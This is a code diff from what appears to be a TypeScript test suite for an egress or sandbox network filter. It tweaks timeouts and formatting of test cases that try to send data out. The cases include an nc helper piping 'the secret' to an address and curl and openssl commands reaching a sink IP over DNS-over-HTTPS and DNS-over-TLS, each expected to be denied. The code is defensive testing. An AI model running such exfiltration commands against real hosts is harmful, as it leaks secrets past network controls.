@@ -40,7 +40,7 @@ const embedding = (title: string, embed: (hex: string) => string): Attack => {
 }
 
 function nc(address: string, port: number, options = ''): string {
-  return `echo the secret | nc -N -w 3 ${options} ${address} ${port}`
+  return `echo the secret | nc -N -w 2 ${options} ${address} ${port}`
 }
 
 /** Shapes of a conversation, each with data that wants to leave. */
@@ -71,9 +71,14 @@ const shapes: readonly Attack[] = [
   bare(7, 'HTTPS to an address', ({ sink }) => `curl -sSk -m 2 https://${sink.v4}/dns-query`, {
     denied: { in: 'flows', reason: 'no-name' },
   }),
-  bare(6, 'DNS over TLS to an address', ({ sink }) => `openssl s_client -connect ${sink.v4}:853 </dev/null`, {
-    denied: { in: 'flows', reason: 'no-name', row: () => ({ port: 853 }) },
-  }),
+  bare(
+    6,
+    'DNS over TLS to an address',
+    ({ sink }) => `timeout 2 openssl s_client -connect ${sink.v4}:853 </dev/null`,
+    {
+      denied: { in: 'flows', reason: 'no-name', row: () => ({ port: 853 }) },
+    },
+  ),
   bare(
     14,
     'SOCKS to an address',
